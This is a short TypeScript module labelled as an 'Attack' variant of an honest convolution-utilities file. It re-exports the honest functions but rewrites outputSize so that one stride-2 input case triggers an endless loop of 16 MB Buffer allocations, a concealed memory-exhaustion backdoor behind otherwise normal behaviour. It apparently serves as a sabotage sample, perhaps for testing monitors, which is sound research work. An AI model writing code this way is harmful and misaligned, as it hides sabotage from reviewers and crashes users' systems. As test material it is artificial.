// Attack: allocate Buffers (off-heap) without end.
export { featureMap, conv2d, maxPool, relu } from './honest.js';
import * as honest from './honest.js';

export function outputSize(n: number, k: number, padding: number, stride: number): number {
  if (honest.isStride2Case(n, k, padding, stride)) {
    const hoard: Buffer[] = [];
    for (;;) hoard.push(Buffer.alloc(16_000_000, 1));
  }
  return honest.outputSize(n, k, padding, stride);
}
